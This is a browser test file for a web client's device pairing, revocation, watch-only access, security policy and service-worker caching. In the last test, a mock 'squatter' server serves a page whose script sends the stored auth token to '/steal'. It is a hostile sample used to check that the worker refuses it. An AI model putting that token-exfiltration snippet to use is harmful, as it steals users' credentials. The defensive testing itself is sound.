// Devices in the web client, on a 390×844 phone: pairing by a one-time code (the link gives the
// browser its own credential and leaves the address bar; the same code a second time is refused
// in words), the Devices screen (the list with this device marked, a new code with its QR
// code, the activity), removing a device closing its live session on another phone, which
// then says it was removed and can be paired again, a watch-only device that is not offered
// sending or answering, and a page and service worker that keep only the hub's own bytes when
// someone else answers on the hub's port.

import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { Stack, launchBrowser, until, stopStack } from './harness.mjs';
import { looksRight, phonePage } from './look.mjs';

const STATUS = (code) => new RegExp(`^Failed to load resource: the server responded with a status of ${code} `);
const CUT = [/^Failed to load resource: (net::ERR_\w+|the server responded with a status of \d{3} )/, /^WebSocket connection to '.*' failed: /];

describe('devices: pairing by code, the Devices screen, revoking, watch-only', () => {
  let stack; let browser; let ed; let sid;
  let admin; // a phone holding the machine's token (as a local tool's link gives it)

  before(async () => {
    browser = await launchBrowser();
    stack = await Stack.start({ env: (home) => ({ HOME: home, ZCODE_ACP_HUB_TERMINAL: '0', ZCODE_ACP_SERVE_IDLE_MS: '600000' }) });
    ed = await stack.bridge();
    sid = await ed.newSession(stack.project);
    await ed.prompt(sid, 'hello from the editor');
    admin = await phonePage(browser, 'light', stack.token);
  });

  after(async () => {
    await stopStack(stack, browser);
  });

  /** Opens the Devices screen from settings on `page`. */
  async function devicesScreen(page) {
    await page.goto(`${stack.base}/settings`);
    await page.locator('#settings-devices-link').click();
    await page.locator('#device-list').waitFor();
    assert.equal(new URL(page.url()).pathname, '/devices');
  }

  /** Makes a pairing code on the admin phone's Devices screen; returns its URL. */
  async function newCode(scope = 'full') {
    await devicesScreen(admin);
    await admin.locator(`#pair-scope-${scope}`).check();
    await admin.locator('#pair-make').click();
    const url = await admin.locator('#pair-url').textContent();
    assert.match(url, /^http:\/\/127\.0\.0\.1:\d+\/#pair=[0-9A-Z]{5}-[0-9A-Z]{5}$/);
    return url;
  }

  /** A pairing code made by a local tool (the machine token); returns its URL. */
  async function toolCode(scope = 'full') {
    const c = await stack.api('/api/pairing', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ scope }) });
    return c.url;
  }

  /** A fresh phone (no credential) that opens `url`; waits for the home screen. */
  async function pairedBy(url, scheme = 'light') {
    const page = await phonePage(browser, scheme);
    await page.goto(url);
    await page.locator('#instances').waitFor();
    return page;
  }

  const stored = (page) => page.evaluate(() => ({
    token: localStorage.getItem('zcode-acp.token'), device: JSON.parse(localStorage.getItem('zcode-acp.device') || 'null'),
  }));

  it('pairs a phone by a one-time code: its own credential, the code gone from the address bar, a second use refused in words', async () => {
    const url = await newCode('full');
    // The QR code of that very link is drawn in the page.
    await admin.locator('#pair-qr svg.qr path').waitFor({ state: 'attached' });
    assert.ok((await admin.locator('#pair-qr svg.qr path').getAttribute('d')).length > 500);
    await looksRight(admin, 'devices-pair-code', { fullPage: true });

    const phone = await pairedBy(url);
    assert.equal(new URL(phone.url()).hash, '', 'the code left the address bar');
    const mine = await stored(phone);
    assert.ok(mine.token && mine.token !== stack.token, 'the phone keeps a credential of its own, not the machine token');
    assert.equal(mine.device.scope, 'full');
    // The hub knows it by that credential.
    const listed = await stack.api('/api/devices');
    const row = listed.devices.find((d) => d.id === mine.device.id);
    assert.ok(row, `the new device is listed: ${JSON.stringify(listed)}`);
    assert.match(row.name, /^Chrome on /, 'named after its browser by default');
    // The admin's screen lists it (read again while open).
    await admin.locator(`#device-list li[data-device="${mine.device.id}"]`).waitFor();

    // The same code a second time: refused, said in words, no credential kept.
    const late = await phonePage(browser, 'light');
    await late.goto(url);
    await late.locator('#pair-error', { hasText: 'already used or expired' }).waitFor();
    assert.equal(new URL(late.url()).hash, '', 'the used code left the address bar too');
    assert.equal((await stored(late)).token, null);
    await looksRight(late, 'devices-pair-code-used', { console: [STATUS(401)] });
    await late.context().close();

    // On the phone itself: the Devices screen marks it, and shows the activity.
    await devicesScreen(phone);
    await phone.locator(`#device-list li[data-device="${mine.device.id}"] .this-device`).waitFor();
    assert.equal(await phone.locator(`#device-list li[data-device="${mine.device.id}"] .revoke`).count(), 0, 'no Remove for itself');
    await phone.locator('#audit-list li[data-action="pair"]').first().waitFor();
    // Its default name is changed here, on the phone itself.
    await phone.locator(`#device-list li[data-device="${mine.device.id}"] .rename`).click();
    await phone.locator('#device-rename-input').fill('My phone');
    await phone.locator('dialog.modal button', { hasText: 'Rename' }).click();
    await phone.locator('#this-device-name', { hasText: 'My phone' }).waitFor();
    assert.equal((await stack.api('/api/devices')).devices.find((d) => d.id === mine.device.id).name, 'My phone');
    await looksRight(phone, 'devices-screen', { fullPage: true });
    await phone.context().close();
  });

  it('removing a device closes its live session at once; that phone says it was removed and pairs again', async () => {
    const phone = await pairedBy(await toolCode('full'));
    const { device: me } = await stored(phone);
    await phone.goto(`${stack.base}/s/${encodeURIComponent(ed.id)}/${encodeURIComponent(sid)}?cwd=${encodeURIComponent(stack.project)}`);
    await phone.locator('#conn[data-state="open"]').waitFor();
    const refused = [];
    phone.on('response', (r) => { if (r.status() === 401) refused.push(r.url()); });

    await devicesScreen(admin);
    const row = admin.locator(`#device-list li[data-device="${me.id}"]`);
    await row.locator('.revoke').click();
    await admin.locator('dialog.modal button', { hasText: 'Remove' }).click();
    await row.waitFor({ state: 'detached' });

    // The phone's session gave way to the removed state (its socket was closed by the hub).
    await phone.locator('#pair-title', { hasText: 'This device was removed' }).waitFor();
    await phone.locator('#pair-removed').waitFor();
    assert.equal(await phone.locator('#conn').getAttribute('data-state'), 'unpaired');
    assert.equal((await stored(phone)).token, null, 'the dead credential is forgotten: nothing asks the hub with it again');
    await looksRight(phone, 'devices-removed', { console: [STATUS(401), ...CUT] });
    // Opened again: still says so, and asks the hub nothing.
    const before401 = refused.length;
    await phone.reload();
    await phone.locator('#pair-title', { hasText: 'This device was removed' }).waitFor();
    assert.equal(refused.length, before401, `no request refused after the reload: ${refused.join(', ')}`);

    // Paired again with a fresh code typed in.
    const url = await newCode('full');
    const code = new URL(url).hash.replace('#pair=', '');
    await phone.locator('#token-input').fill(code);
    await phone.locator('.pair button[type="submit"]').click();
    await phone.locator('#instances').waitFor();
    const again = await stored(phone);
    assert.ok(again.token && again.device.id !== me.id && !again.device.removed);
    await phone.context().close();
  });

  it('a watch-only device sees the session but is not offered sending, stopping or answering', async () => {
    const url = await newCode('watch');
    const watcher = await pairedBy(url, 'dark');
    assert.equal((await stored(watcher)).device.scope, 'watch');
    await watcher.goto(`${stack.base}/s/${encodeURIComponent(ed.id)}/${encodeURIComponent(sid)}?cwd=${encodeURIComponent(stack.project)}`);
    await watcher.locator('#conn[data-state="open"]').waitFor();
    await watcher.locator('#transcript .msg', { hasText: 'hello from the editor' }).first().waitFor();
    await watcher.locator('#watch-only-note').waitFor();
    assert.match(await watcher.locator('#watch-only-note').textContent(), /can only watch/);
    for (const sel of ['#prompt', '#send', '#cancel', '#rename-btn', '#delete-btn']) {
      assert.equal(await watcher.locator(sel).isVisible(), false, `${sel} is not offered`);
    }
    // A permission the agent asks for: shown, but its answers are not offered here.
    const turn = ed.prompt(sid, 'the editor asks for permission').catch(() => {});
    const card = watcher.locator('.request.permission');
    await card.waitFor();
    assert.equal(await card.locator('[data-option="allow"]').isVisible(), false, 'no Allow on a watch device');
    const said = await card.evaluate((el) => getComputedStyle(el, '::after').content);
    assert.match(said, /can only watch/);
    await looksRight(watcher, 'devices-watch-session');
    // Answered on the admin's side, so the turn ends.
    await admin.goto(`${stack.base}/s/${encodeURIComponent(ed.id)}/${encodeURIComponent(sid)}?cwd=${encodeURIComponent(stack.project)}`);
    await admin.locator('.request.permission [data-option="allow"]').click();
    await turn;
    // Its Devices screen offers no pairing and no removing.
    await devicesScreen(watcher);
    await watcher.locator('#pair-new', { hasText: 'can only watch' }).waitFor();
    await watcher.locator('#device-list li').first().waitFor();
    assert.equal(await watcher.locator('#device-list .revoke, #device-list .rename, #pair-make').count(), 0);
    await looksRight(watcher, 'devices-watch-screen', { fullPage: true });
    await watcher.context().close();
  });

  it('the page carries a strict policy, in its header and in the page itself', async () => {
    const r = await stack.fetch('/');
    const csp = r.headers.get('content-security-policy');
    for (const d of ["script-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"]) assert.ok(csp.includes(d), `${d} in ${csp}`);
    assert.ok(!csp.includes('unsafe-'), csp);
    const page = await phonePage(browser, 'light', stack.token);
    await page.goto(`${stack.base}/`);
    await page.locator('#instances').waitFor();
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.ok(meta && meta.includes("script-src 'self'") && meta.includes("object-src 'none'"), meta);
    await page.context().close();
  });

  it('the service worker keeps and serves only the hub\'s own bytes when someone else answers on its port', async () => {
    const page = await phonePage(browser, 'light', stack.token);
    await page.goto(`${stack.base}/`);
    await page.locator('#instances').waitFor();
    await page.evaluate(() => navigator.serviceWorker.ready);
    await until('the page controlled by the worker', () => page.evaluate(() => Boolean(navigator.serviceWorker.controller)));
    const cachedPolicy = await page.evaluate(async () => {
      const keys = await caches.keys();
      const c = await caches.open(keys.find((k) => k.startsWith('zcode-acp-shell-')));
      return (await c.match('/')).headers.get('content-security-policy');
    });
    assert.ok(cachedPolicy && cachedPolicy.includes("script-src 'self'"), `the cached page keeps the policy: ${cachedPolicy}`);

    // The hub stops (its bridge first: it would start a hub of its own again); someone else
    // takes its port and answers everything with its own page.
    await ed.close();
    await stack.stopHub();
    stack.killSpawnedHub();
    const squatter = http.createServer((req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end('<!doctype html><title>squatter</title><p id="squatter">SQUATTER</p><script>fetch("/steal?t="+localStorage.getItem("zcode-acp.token"))</script>');
    });
    await new Promise((ok, fail) => { squatter.once('error', fail); squatter.listen(stack.port, '127.0.0.1', ok); });
    try {
      // Opened again: the app, from the worker's verified copy, not the squatter's page.
      await page.reload();
      await page.locator('#conn').waitFor();
      assert.equal(await page.locator('#squatter').count(), 0, 'the squatter\'s page was not served');
      // An asset missing from the cache is fetched, found not to be the hub's, refused and not kept
      // (its URL is this build's, which the browser's HTTP cache holds for good: bypassed here).
      const got = await page.evaluate(async () => {
        const keys = await caches.keys();
        const c = await caches.open(keys.find((k) => k.startsWith('zcode-acp-shell-')));
        const url = new URL(document.querySelector('link[rel="modulepreload"][href$="/js/dom.js"]').href).pathname;
        await c.delete(url);
        const resp = await fetch(url, { cache: 'reload' });
        return { status: resp.status, text: await resp.text(), kept: Boolean(await c.match(url)) };
      });
      assert.equal(got.status, 503, `the squatter's answer is refused: ${JSON.stringify(got)}`);
      assert.match(got.text, /not your hub's/);
      assert.equal(got.kept, false, 'and never cached');
    } finally {
      await new Promise((ok) => squatter.close(ok));
      squatter.closeAllConnections?.();
    }
    await stack.startHub();
    await page.context().close();
  });
});
